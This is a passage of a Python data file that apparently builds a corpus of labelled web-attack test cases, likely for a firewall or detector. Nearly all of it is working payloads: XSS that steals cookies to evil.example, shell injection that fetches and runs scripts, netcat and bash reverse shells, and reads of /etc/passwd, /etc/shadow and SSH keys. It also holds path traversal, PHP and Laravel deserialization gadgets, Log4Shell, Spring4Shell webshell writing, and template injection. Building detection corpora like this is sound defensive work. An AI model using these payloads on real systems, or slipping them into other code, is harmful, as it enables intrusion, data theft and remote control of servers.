     "&fit=regular&sleeve=short&price=0-40&sort=newest&page=1&utm_source=google&utm_medium=shopping"),
    ("xss", "Referer: double-encoded </script> breakout in q", "header:Referer", "Referer",
     "https://www.shop.example.com/search?q=%253C%252Fscript%253E%253Cscript%253Ealert(document.domain)%253C%252Fscript%253E"
     "&type=products&page=1&per_page=48&sort=relevance&lang=en&utm_source=newsletter&utm_medium=email"),
    ("xss", "Referer: data: URL HTML payload in next param of login page", "header:Referer", "Referer",
     "https://www.shop.example.com/account/login?next=data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ%2B"
     "&lang=en&source=header_link&utm_source=app&utm_medium=banner"),
    ("xss", "Referer: <base href> hijack of relative scripts in ref param", "header:Referer", "Referer",
     "https://www.shop.example.com/p/88412-oak-desk?variant=2&qty=1&ref=%3Cbase%20href%3D%22%2F%2Fevil.example%2F%22%3E"
     "&utm_source=pinterest&utm_medium=social&utm_campaign=home_office&epik=dj0yJnU9ZXhhbXBsZQ"),

    # ------------------------------------------------------------------ XSS: cookies
    ("xss", "prefs cookie: theme value breaks out of class attribute", "cookie", "prefs",
     "prefs=lang=en&currency=EUR&theme=dark%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E&density=compact"),
    ("xss", "OptanonConsent cookie: img onerror in landingPath field", "cookie", "OptanonConsent",
     _OPTANON_HEAD + "&consentId=0c9b8a7d-6e5f-4a3b-2c1d-0e9f8a7b6c5d&interactionCount=0&isAnonUser=1"
     "&landingPath=https%3A%2F%2Fwww.shop.example.com%2F%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E"
     "&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A0%2CC0004%3A0"),
    ("xss", "username cookie echoed in 'Welcome back' banner: svg onload", "cookie", "username",
     "username=%3Csvg%20onload%3Dalert(document.domain)%3E"),
    ("xss", "URL-encoded JSON cart cookie: img onerror in item name shown in mini-cart", "cookie", "cart",
     "cart=" + _pct('{"items":[{"sku":"TS-001","qty":1,"name":"Basic Tee"},{"sku":"CAP-9","qty":1,"name":"<img src=x onerror=alert(document.domain)>"}],"total":27.4}')),
    ("xss", "base64 JSON session cookie: displayName with script payload", "cookie", "session",
     "session=" + _b64('{"uid":77,"displayName":"<script>new Image().src=\'//evil.example/s?\'+document.cookie</script>","role":"user"}')),
    ("xss", "Cookie header: script in 5th cookie recent_search", "header:Cookie", "Cookie",
     _JAR + "; recent_search=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E; " + _SID + "; lang=en"),
    ("xss", "A/B cookie reflected in inline JS string: quote breakout", "cookie", "variant",
     "variant=b%27%3Bfetch(%27%2F%2Fevil.example%2Fv%3Fc%3D%27%2Bdocument.cookie)%3B%2F%2F"),
    ("xss", "city cookie reflected in input value: autofocus onfocus", "cookie", "city",
     "city=Berlin%22%20autofocus%20onfocus%3Dalert(document.domain)%20x%3D%22"),
    ("xss", "Cookie header: details ontoggle in 10th cookie flash_msg", "header:Cookie", "Cookie",
     _JAR + "; cookie_consent=all; locale=en_US; currency=USD; tz=America%2FNew_York; "
     "flash_msg=%3Cdetails%20open%20ontoggle%3Dalert(document.cookie)%3E; " + _SID),
    ("xss", "base64 JSON user_prefs cookie: iframe srcdoc greeting", "cookie", "user_prefs",
     "user_prefs=" + _b64('{"greeting":"<iframe srcdoc=\\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\\"></iframe>","tz":"UTC"}')),
    ("xss", "return_url cookie rendered as href: javascript: URL", "cookie", "return_url",
     "return_url=javascript:alert(document.domain)//"),
    ("xss", "first-touch attribution JSON cookie: script in campaign rendered in CRM", "cookie", "first_touch",
     "first_touch=" + _pct('{"source":"google","medium":"cpc","campaign":"<script src=//evil.example/crm.js></script>","ts":1717245296}')),
    ("xss", "preferred_name cookie in AngularJS page: client-side template injection", "cookie", "preferred_name",
     "preferred_name=%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D"),
    ("xss", "Cookie header: svg animate onbegin in 5th cookie promo_banner", "header:Cookie", "Cookie",
     _JAR + "; promo_banner=%3Csvg%3E%3Canimate%20onbegin%3Dalert(document.domain)%20attributeName%3Dx%20dur%3D1s%3E; " + _SID),

    # ------------------------------------------------------------------ XSS: many params / HPP
    ("xss", "long search path: attribute breakout svg in lang param", "path", "",
     "/search?q=linen+shirt&cat=men&size=M&size=L&color=white&sort=price_asc&page=2&per_page=36&view=grid&currency=EUR"
     "&lang=en\"><svg onload=alert(document.domain)>&utm_source=google&utm_medium=cpc"),
    ("xss", "ASP.NET HPP: svg onload split across two q params (comma inside JS comment)", "raw", "",
     _raw("GET", "/Search.aspx?q=%3Csvg/onload=alert(document.domain)/*&q=*/%3E&type=all&page=1",
          [("Referer", "https://www.shop.example.com/Default.aspx"), ("Cookie", _JAR + "; ASP.NET_SessionId=m4n5b6v7c8x9z0a1s2d3f4g5")])),
    ("xss", "ASP.NET HPP: img src then onerror in second repeat, joined by comma", "raw", "",
     _raw("GET", "/Catalog/Item.aspx?id=88&title=%3Cimg+src%3Dx+&title=+onerror%3Dalert(document.cookie)%3E&ref=home",
          [("Referer", "https://www.shop.example.com/Catalog/Default.aspx?cat=3"), ("Cookie", _JAR)])),
    ("xss", "comment form with many fields: iframe srcdoc in body", "body:application/x-www-form-urlencoded", "comments",
     "post_id=4821&parent_id=0&author=Jane&email=jane%40mail.example&url=&rating=5&notify=1"
     "&body=Great+article%21+%3Ciframe+srcdoc%3D%22%26lt%3Bscript%26gt%3Bparent.location%3D%27%2F%2Fevil.example%2F%3F%27%2Bparent.document.cookie%26lt%3B%2Fscript%26gt%3B%22%3E%3C%2Fiframe%3E"
     "&captcha_token=03AGdBq24x&consent=1"),
    ("xss", "query redirect param rendered as link: javascript: URL", "query", "redirect", "javascript:alert(document.domain)//"),
    ("xss", "query q reflected inside JS string: quote breakout", "query", "q", "';alert(String.fromCharCode(88,83,83));//"),
    ("xss", "JSONP endpoint with many params: callback injection", "path", "",
     "/api/geo/nearest?lat=52.52&lng=13.40&radius=10&limit=5&type=store&lang=de&callback=alert(document.domain)//"),
    ("xss", "profile form with many fields: javascript: URL in website", "body:application/x-www-form-urlencoded", "profile",
     "display_name=Marta&pronouns=she%2Fher&location=Madrid&company=&twitter=marta_dev&timezone=Europe%2FMadrid"
     "&website=javascript%3Aalert(document.domain)%2F%2Fhttps%3A%2F%2Fmarta.example&bio=Hi&avatar_style=round&save=1"),
    ("xss", "form message: entity-obfuscated javascript: href", "form", "message",
     '<a href="jav&#x61;script&#58;alert(document.cookie)">view invoice</a>'),

    # ------------------------------------------------------------------ XSS: deep JSON / GraphQL / XML / upload
    ("xss", "JSON 5-level deep: javascript: URL in social link", "json", "",
     '{"user":{"profile":{"social":{"links":[{"label":"site","url":"https://me.example"},{"label":"gh","url":"javascript:alert(document.cookie)"}]}}}}'),
    ("xss", "JSON key name rendered in admin metadata table: img onerror", "json", "",
     '{"data":{"type":"orders","id":"9921","attributes":{"metadata":{"gift":"yes","<img src=x onerror=alert(document.domain)>":"1"}}}}'),
    ("xss", "GraphQL mutation variables: svg payload in review body", "json", "",
     '{"operationName":"AddReview","variables":{"input":{"productId":"UHJvZHVjdDo4ODE=","rating":5,"title":"Love it","body":"<svg><script>alert(document.domain)</script></svg>"}},"query":"mutation AddReview($input: ReviewInput!) { addReview(input: $input) { id } }"}'),
    ("xss", "XML attribute with entity-encoded img onerror rendered as HTML", "body:application/xml", "products",
     '<?xml version="1.0"?><catalog><product sku="P-100" name="&lt;img src=x onerror=alert(document.domain)&gt;" price="9.99"/></catalog>'),
    ("xss", "multipart file name rendered in upload list: img onerror", "multipart", "attachment",
     '"><img src=x onerror=alert(document.domain)>.png'),
    ("xss", "JSON array of notifications: external script in one title", "json", "",
     '{"notifications":[{"id":1,"title":"Order shipped","read":false},{"id":2,"title":"<script src=//evil.example/n.js></script>","read":false},{"id":3,"title":"Review reminder","read":true}]}'),
    ("xss", "JSON 7-level deep: DOMPurify mXSS namespace-confusion payload", "json", "",
     '{"page":{"blocks":[{"type":"rich","content":{"html":{"source":{"body":"<math><mtext><table><mglyph><style><!--</style><img title=\\"--&gt;&lt;img src=x onerror=alert(document.domain)&gt;\\">"}}}}]}}'),
    ("xss", "GraphQL variables: dynamic import payload in displayName", "json", "",
     '{"operationName":"UpdateMe","variables":{"me":{"displayName":"<img src=x onerror=import(\'//evil.example/p.js\')>","locale":"en"}},"query":"mutation UpdateMe($me: MeInput!) { updateMe(input: $me) { id displayName } }"}'),
    ("xss", "JSON:API bio with &colon; obfuscated javascript: link", "json", "bio",
     '<a href="javascript&colon;alert(document.cookie)">my site</a>'),
    ("xss", "SVG avatar upload: onload attribute on root svg", "body:image/svg+xml", "avatars",
     '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="fetch(\'//evil.example/a?c=\'+document.cookie)"><circle cx="32" cy="32" r="30" fill="#09c"/></svg>'),
]

BLIND_ATTACKS_ZA += [
    # ------------------------------------------------------------------ RCE: Referer / rewrite URLs
    ("rce", "Referer: Shellshock function definition against CGI that exports HTTP_REFERER", "header:Referer", "Referer",
     "() { :; }; /bin/bash -c 'curl -s http://evil.example/ss.sh | sh'"),
    ("rce", "X-Original-URL: ';' command injection in host of admin ping tool", "header:X-Original-URL", "X-Original-URL",
     "/admin/tools/ping?host=10.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=4&timeout=2&iface=eth0"),
    ("rce", "X-Rewrite-URL: backtick command substitution in backup target path", "header:X-Rewrite-URL", "X-Rewrite-URL",
     "/admin/backup/run?db=shop&compress=gzip&retention=7&target=%2Fvar%2Fbackups%2F%60curl%20-s%20http%3A%2F%2Fevil.example%2Fb.sh%7Csh%60.sql.gz"),
    ("rce", "Referer replayed by server-side PDF exporter: double-encoded && in filename", "header:Referer", "Referer",
     "https://intranet.example.com/docs/export?doc=Q2-report&fmt=pdf&paper=A4&orientation=portrait"
     "&filename=report.pdf%2526%2526curl%2520http%253A%252F%252Fevil.example%252Fs.sh%257Csh&lang=en&utm_source=portal"),
    ("rce", "Referer host run through shell lookup: $() with ${IFS} in hostname", "header:Referer", "Referer",
     "https://$(curl${IFS}-s${IFS}evil.example/r|sh).partner.example/landing?utm_source=partner&utm_medium=referral&utm_campaign=q2"),
    ("rce", "X-Original-URL: newline-separated command in diagnostics traceroute target", "header:X-Original-URL", "X-Original-URL",
     "/admin/diagnostics/traceroute?target=example.com%0Awget%20-qO%2Ftmp%2F.x%20http%3A%2F%2Fevil.example%2Fx%0Ash%20%2Ftmp%2F.x&max_hops=30"),

    # ------------------------------------------------------------------ RCE: cookies
    ("rce", "prefs cookie: tz value passed to shell date command", "cookie", "prefs",
     "prefs=lang=en&currency=EUR&tz=Europe%2FBerlin%3Bwget%20-qO-%20http%3A%2F%2Fevil.example%2Fx%7Csh&datefmt=iso"),
    ("rce", "base64 JSON session: backtick reverse shell in locale", "cookie", "session",
     "session=" + _b64('{"uid":5120,"locale":"en_US`nc 198.18.0.5 4444 -e /bin/sh`","theme":"light","exp":1717331696}')),
    ("rce", "Cookie header: $() with ${IFS} in 10th cookie thumb size", "header:Cookie", "Cookie",
     _JAR + "; cookie_consent=all; locale=de_DE; currency=EUR; view=grid; thumb=300x300$(curl${IFS}evil.example/t|sh); " + _SID),
    ("rce", "printer cookie passed to lp -d: pipe to id", "cookie", "printer",
     "printer=HP_LaserJet_4%7Cid%3Ecurl%20-d%20%40-%20http%3A%2F%2Fevil.example%2Fp"),
    ("rce", "node-serialize profile cookie: IIFE _$$ND_FUNC$$_ (CVE-2017-5941)", "cookie", "profile",
     "profile=" + _b64('{"username":"guest","country":"DE","rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl -s http://evil.example/n|sh\')}()"}')),
    ("rce", "base64 pickle session cookie: os.system via protocol-0 pickle", "cookie", "session",
     "session=" + _b64("cposix\nsystem\n(S'curl -s http://evil.example/p.sh | sh'\ntR.")),
    ("rce", "Cookie header: download-name cookie (5th) with $() exfiltrating passwd", "header:Cookie", "Cookie",
     _JAR + "; dl_name=report$(curl${IFS}-d${IFS}@/etc/passwd${IFS}evil.example).pdf; " + _SID + "; lang=en"),
    ("rce", "URL-encoded JSON cart cookie: shell breakout in gift message rendered via wkhtmltopdf shell call", "cookie", "cart",
     "cart=" + _pct('{"items":[{"sku":"BOX-1","qty":1}],"gift":{"wrap":true,"message":"Happy birthday\\";curl -s http://evil.example/g|sh;\\""}}')),
    ("rce", "Perl CGI lang cookie used in two-arg open(): pipe command", "cookie", "lang",
     "lang=|curl%20-s%20http%3A%2F%2Fevil.example%2Fpl%7Csh|"),

    # ------------------------------------------------------------------ RCE: many params / HPP
    ("rce", "converter path with many params: pipe netcat reverse shell in dpi", "path", "",
     "/tools/convert?input=invoice_2024.docx&output=pdf&quality=high&pages=1-3&dpi=150|nc 198.18.0.7 4444 -e /bin/bash&lang=en&watermark=0"),
    ("rce", "ASP.NET HPP: second host repeat adds ';id' to ping target", "raw", "",
     _raw("GET", "/Network/Ping.aspx?host=127.0.0.1&count=2&host=%3Bwhoami%26%26type+C:%5Cwindows%5Cwin.ini&timeout=1000",
          [("Referer", "https://intranet.example.com/Network/Default.aspx"), ("Cookie", _JAR + "; ASP.NET_SessionId=z9y8x7w6v5u4t3s2r1q0p9o8")],
          host="intranet.example.com")),
    ("rce", "DNS lookup form with many fields: backticks in resolver", "body:application/x-www-form-urlencoded", "dns",
     "domain=example.com&record=MX&ttl=3600&recursive=1&timeout=5&server=8.8.8.8%60curl+-s+evil.example%2Fd%7Csh%60&format=json&submit=Lookup"),
    ("rce", "Windows report form: & powershell download cradle in output name", "body:application/x-www-form-urlencoded", "reports",
     "report=sales&from=2024-01-01&to=2024-03-31&region=EMEA&group_by=month&format=xlsx"
     "&output=q1.xlsx+%26+powershell+-nop+-w+hidden+-c+%22IEX(New-Object+Net.WebClient).DownloadString(%27http%3A%2F%2Fevil.example%2Fa.ps1%27)%22&email=0"),
    ("rce", "CGI status path with many params: ';' wget+sh in cmd", "path", "",
     "/cgi-bin/status.cgi?view=summary&refresh=30&host=web01&service=http&cmd=uptime;wget http://evil.example/x -O /tmp/x;sh /tmp/x&lang=en"),
    ("rce", "repo import form: git argument injection via --upload-pack", "body:application/x-www-form-urlencoded", "repos",
     "name=site&visibility=private&default_branch=main&mirror=0&repo=--upload-pack%3Dcurl+-s+evil.example%2Fg%7Csh&description=import"),
    ("rce", "query file name passed to shell: $() in filename", "query", "filename", "invoice_$(curl -s evil.example/f|sh).pdf"),
    ("rce", "archive form: tar --checkpoint-action argument injection in exclude", "body:application/x-www-form-urlencoded", "archives",
     "source=%2Fsrv%2Fuploads%2F5120&format=tar.gz&split=0&notify=1&exclude=--checkpoint%3D1+--checkpoint-action%3Dexec%3Dsh+%2Ftmp%2Fx.sh&name=backup"),
    ("rce", "raw GET with long query: %0a newline command in whois domain", "raw", "",
     _raw("GET", "/tools/whois?domain=shop.example%0Acurl%20-s%20http%3A%2F%2Fevil.example%2Fw%7Csh&format=text&cache=0&lang=en",
          [("Referer", "https://www.shop.example.com/tools?tab=whois"), ("Cookie", _JAR + "; " + _SID)])),

    # ------------------------------------------------------------------ RCE: deep JSON / GraphQL / XML / upload
    ("rce", "JSON job spec 5 levels deep: $() in container arg", "json", "",
     '{"job":{"spec":{"template":{"containers":[{"name":"worker","image":"reports:1.4","args":["--input","$(curl -s http://evil.example/p.sh | bash)"]}]}}}}'),
    ("rce", "GraphQL variables: ';' in hostname of network check", "json", "",
     '{"operationName":"CheckHost","variables":{"input":{"hostname":"db01.internal;cat /etc/shadow | curl -d @- http://evil.example/","port":5432}},"query":"mutation CheckHost($input: HostInput!) { checkHost(input: $input) { ok latency } }"}'),
    ("rce", "XML attribute: mkfifo reverse shell in backup target", "body:application/xml", "backups",
     '<?xml version="1.0"?><backup><job name="nightly" target="/var/backups/db.tar.gz; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.18.0.9 4444 >/tmp/f" compress="gzip"/></backup>'),
    ("rce", "JSON spreadsheet formula evaluated by Node eval: child_process", "json", "",
     '{"sheet":{"id":"s1","cells":[{"ref":"A1","value":"10"},{"ref":"B1","formula":"require(\'child_process\').execSync(\'curl -s evil.example/e|sh\').toString()"}]}}'),
    ("rce", "JSON calculator leaf evaluated by Python eval: __import__ os", "json", "",
     '{"pricing":{"rules":[{"name":"bulk","expr":"__import__(\'os\').popen(\'id; uname -a\').read()"}]}}'),
    ("rce", "JSON array of deploy hooks: ';' bash reverse shell in branch", "json", "",
     '{"hooks":[{"event":"push","branch":"main"},{"event":"tag","branch":"release;bash -c \'bash -i >& /dev/tcp/198.18.0.9/4444 0>&1\'"}]}'),
    ("rce", "JSON 8 levels deep: quote breakout in ImageMagick resize geometry", "json", "",
     '{"media":{"pipeline":{"steps":{"transform":{"image":{"resize":{"geometry":{"value":"100x100\'; curl -s evil.example/m|sh #"}}}}}}}}'),
    ("rce", "JSON env map key name exported via shell: $() in variable name", "json", "",
     '{"build":{"env":{"NODE_ENV":"production","X=$(curl -s evil.example/k|sh)":"1"}}}'),
    ("rce", "XML attribute: pipe output target in conversion job", "body:application/xml", "conversions",
     '<?xml version="1.0"?><convert input="uploads/a.png" output="|curl -s http://evil.example/c.sh|sh" format="jpg"/>'),
    ("rce", "multipart file name passed to shell: ';' separated command", "multipart", "file", "a.jpg;curl -s evil.example|sh;.jpg"),
    ("rce", "multipart file name with $(): command substitution", "multipart", "upload", "$(nc 198.18.0.3 4444 -e /bin/sh).png"),

    # ------------------------------------------------------------------ PTRAV
    ("ptrav", "X-Original-URL: encoded-slash traversal out of static dir", "header:X-Original-URL", "X-Original-URL",
     "/static/..%2f..%2f..%2f..%2fetc/passwd"),
    ("ptrav", "X-Rewrite-URL: strip-once bypass ....// in download file", "header:X-Rewrite-URL", "X-Rewrite-URL",
     "/download?file=....//....//....//....//etc/shadow&inline=0&v=3"),
    ("ptrav", "Referer fetched by server-side viewer: double-encoded traversal in page", "header:Referer", "Referer",
     "https://docs.example.com/viewer?doc=handbook&version=4&page=..%252F..%252F..%252F..%252Fetc%252Fpasswd&zoom=100&utm_source=slack"),
    ("ptrav", "lang cookie included as locale file: traversal + null byte", "cookie", "lang",
     "lang=../../../../../../etc/passwd%00"),
    ("ptrav", "prefs cookie: lang value traverses to /proc/self/environ", "cookie", "prefs",
     "prefs=lang=..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron&currency=EUR&sort=price"),
    ("ptrav", "theme cookie: ....// bypass to win.ini", "cookie", "theme",
     "theme=....//....//....//....//windows/win.ini"),
    ("ptrav", "Cookie header: template cookie (5th) traverses to /etc/passwd", "header:Cookie", "Cookie",
     _JAR + "; template=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd; " + _SID + "; lang=en"),
    ("ptrav", "base64 JSON session: tpl path traversal", "cookie", "session",
     "session=" + _b64('{"uid":33,"tpl":"../../../../../../etc/passwd","lang":"en"}')),
    ("ptrav", "viewer path with many params: encoded traversal in page", "path", "",
     "/viewer?doc=manual&version=3.2&lang=en&page=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd&zoom=100&toolbar=1&theme=light"),
    ("ptrav", "JSON 5 levels deep: export output path escapes to webroot", "json", "",
     '{"export":{"options":{"output":{"target":{"path":"../../../../../var/www/html/shell.php"}}},"format":"csv"}}'),
    ("ptrav", "multipart file name with traversal to cron dir", "multipart", "document", "../../../../../../etc/cron.d/backdoor"),
    ("ptrav", "XML attribute: attachment path traversal", "body:application/xml", "messages",
     '<?xml version="1.0"?><message to="ops@shop.example.com"><subject>logs</subject><attachment name="app.log" path="../../../../../../etc/passwd"/></message>'),
    ("ptrav", "query: Windows backslash traversal to hosts file", "query", "file",
     "..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    ("ptrav", "Tomcat ..; path-parameter traversal to WEB-INF", "path", "",
     "/static/..;/..;/WEB-INF/web.xml"),
    ("ptrav", "nginx alias off-by-slash traversal to app config", "path", "",
     "/assets../config/database.yml"),
    ("ptrav", "overlong UTF-8 dot encoding in download file", "path", "",
     "/download?lang=en&file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd&disposition=inline"),
    ("ptrav", "Referer: encoded backslash traversal in help article param", "header:Referer", "Referer",
     "https://www.shop.example.com/help?article=..%5C..%5C..%5C..%5C..%5Cwindows%5Cwin.ini&lang=en&section=faq&utm_source=chatbot"),
    ("ptrav", "skin cookie: traversal to nginx access log (log-poisoning LFI)", "cookie", "skin",
     "skin=../../../../../../var/log/nginx/access.log"),
    ("ptrav", "JSON array of attachments: traversal in one path", "json", "",
     '{"ticket":{"attachments":[{"name":"a.pdf","path":"uploads/5120/a.pdf"},{"name":"b.txt","path":"uploads/5120/../../../../../../root/.ssh/id_rsa"}]}}'),
    ("ptrav", "GraphQL variables: templatePath traversal", "json", "",
     '{"operationName":"RenderEmail","variables":{"templatePath":"emails/../../../../../../etc/passwd","locale":"en"},"query":"query RenderEmail($templatePath: String!, $locale: String) { renderEmail(templatePath: $templatePath, locale: $locale) }"}'),
    ("ptrav", "raw GET export with many params: traversal + null byte before .csv", "raw", "",
     _raw("GET", "/export?format=csv&report=sales&region=eu&year=2024&file=../../../../../../etc/passwd%00.csv&delimiter=%3B",
          [("Referer", "https://www.shop.example.com/reports?tab=sales"), ("Cookie", _JAR + "; " + _SID)])),
    ("ptrav", "form attachment: double-encoded traversal to .env", "form", "attachment",
     "..%2f..%2f..%2f..%2fapp%2f.env"),
    ("ptrav", "encoded dot segments in whole path of file server", "path", "",
     "/files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
]

_LARAVEL_RCE = (
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:'
    '{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:%d:"%s";}'
)


def _laravel(cmd: str) -> str:
    """phpggc-style Laravel PendingBroadcast -> Faker\\Generator gadget running cmd via system()."""
    return _LARAVEL_RCE % (len(cmd.encode("utf-8")), cmd)


BLIND_ATTACKS_ZA += [
    # ------------------------------------------------------------------ PHP
    ("php", "base64 serialized cookie: Laravel PendingBroadcast/Faker gadget -> system()", "cookie", "cart_state",
     "cart_state=" + _b64(_laravel("curl -s http://evil.example/l.sh|sh"))),
    ("php", "URL-encoded serialized remember cookie: same gadget family, id exfil", "cookie", "remember_web",
     "remember_web=" + _pct(_laravel("id|curl -d @- http://evil.example/r"))),
    ("php", "X-Original-URL: php://filter base64 read of DB config via page include", "header:X-Original-URL", "X-Original-URL",
     "/index.php?page=php://filter/convert.base64-encode/resource=../config/database.php&lang=en&v=2"),
    ("php", "query include param: data:// wrapper with base64 PHP webshell", "query", "page",
     "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("php", "path with many params: expect:// wrapper in module include", "path", "",
     "/index.php?option=com_content&view=article&id=12&Itemid=101&lang=en&module=expect://id&tmpl=component"),
    ("php", "JSON 6 levels deep: phar:// deserialization trigger via file_exists path", "json", "",
     '{"settings":{"appearance":{"branding":{"logo":{"source":{"path":"phar:///var/www/uploads/avatars/5120.jpg/test.txt"}}}}}}'),
    ("php", "profile form with many fields: PHP webshell in signature written to .php cache", "body:application/x-www-form-urlencoded", "forum/profile",
     "display_name=kai&location=Hamburg&timezone=Europe%2FBerlin&posts_per_page=20&show_email=0"
     "&signature=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E&avatar=&save=1"),
    ("php", "CVE-2024-4577 soft-hyphen CGI argument injection with php://input body", "raw", "",
     _raw("POST", "/index.php?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          [("Content-Type", "application/x-www-form-urlencoded")],
          "<?php echo shell_exec('whoami'); ?>")),
    ("php", "prefs cookie: lang include through php://filter chain", "cookie", "prefs",
     "prefs=currency=EUR&lang=php://filter/read=convert.base64-encode/resource=/var/www/html/wp-config.php&sort=date"),

    # ------------------------------------------------------------------ Java
    ("java", "Referer: Log4Shell JNDI lookup in utm_source of long campaign URL", "header:Referer", "Referer",
     "https://www.shop.example.com/landing/black-friday?utm_source=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D&utm_medium=cpc"
     "&utm_campaign=bf_2024&utm_term=tv+deals&page=1&sort=discount&gclid=Cj0KCQiA0fu5BhDQARIsAMXUBOKx"),
    ("java", "OptanonConsent cookie: lower-case-obfuscated Log4Shell in consentId", "cookie", "OptanonConsent",
     _OPTANON_HEAD + "&consentId=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2Fevil.example%2Fo%7D&interactionCount=1"
     "&isAnonUser=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A1%2CC0004%3A1"),
    ("java", "Spring4Shell class.module.classLoader AccessLogValve write among ordinary form fields", "raw", "",
     _raw("POST", "/account/settings",
          [("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://www.shop.example.com"),
           ("Referer", "https://www.shop.example.com/account/settings"), ("Cookie", _JAR + "; JSESSIONID=1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D"),
           ("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"), ("DNT", "1")],
          "name=Lena&email=lena%40mail.example&newsletter=1"
          "&class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D%20b%20%3D%20new%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))%3B%20%7D%20%7D%20%25%7Bsuffix%7Di"
          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
          "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
          "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=&locale=en")),
    ("java", "Struts2 S2-057 OGNL in namespace path segment", "path", "",
     "/${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(@java.lang.Runtime@getRuntime().exec('id'))}/actionChain1.action"),
    ("java", "Fastjson autoType JdbcRowSetImpl gadget nested 5 levels deep", "json", "",
     '{"order":{"meta":{"integration":{"payload":{"ext":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example:1389/Exploit","autoCommit":true}}}}}}'),
    ("java", "Spring Cloud Function routing-expression SpEL (CVE-2022-22963)", "header:spring.cloud.function.routing-expression", "spring.cloud.function.routing-expression",
     'T(java.lang.Runtime).getRuntime().exec("curl -s http://evil.example/scf.sh -o /tmp/s.sh")'),
    ("java", "JSON array of log events: Log4Shell in one message leaf", "json", "",
     '{"client_logs":[{"lvl":"info","msg":"app start"},{"lvl":"warn","msg":"slow render"},{"lvl":"error","msg":"${jndi:rmi://evil.example:1099/obj}","ctx":{"page":"/checkout"}}]}'),
    ("java", "Cookie header: ${::-j} obfuscated Log4Shell in 10th cookie", "header:Cookie", "Cookie",
     _JAR + "; cookie_consent=all; locale=en_GB; currency=GBP; view=list; "
     "last_search=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/c}; JSESSIONID=8F7E6D5C4B3A29180F1E2D3C4B5A6978"),
    ("java", "base64 JSON prefs cookie: Jackson default-typing logback JNDI gadget", "cookie", "userPrefs",
     "userPrefs=" + _b64('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://evil.example:1389/jk"}]')),

    # ------------------------------------------------------------------ SSTI
    ("ssti", "Referer rendered by Flask 404 via render_template_string: Jinja2 os.popen", "header:Referer", "Referer",
     "https://www.shop.example.com/search?q=%7B%7B%20cycler.__init__.__globals__.os.popen(%27id%27).read()%20%7D%7D&page=1&sort=new&utm_source=newsletter"),
    ("ssti", "prefs cookie greeting rendered by Twig: filter('system')", "cookie", "prefs",
     "prefs=lang=en&currency=EUR&greeting=%7B%7B%5B%27id%27%5D%7Cfilter(%27system%27)%7D%7D&layout=wide"),
    ("ssti", "base64 JSON session: FreeMarker Execute in nickname", "cookie", "session",
     "session=" + _b64('{"uid":8812,"nickname":"<#assign ex=\\"freemarker.template.utility.Execute\\"?new()>${ex(\\"id\\")}","lang":"en"}')),
    ("ssti", "JSON 5 levels deep: ERB backticks in email template subject", "json", "",
     '{"campaign":{"email":{"template":{"header":{"subject":"Hi <%= `curl -s evil.example/erb|sh` %>"}}}}}'),
    ("ssti", "Thymeleaf view-name expression preprocessing in path", "path", "",
     "/doc/__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti", "newsletter form with many fields: Smarty {system} in name", "body:application/x-www-form-urlencoded", "newsletter",
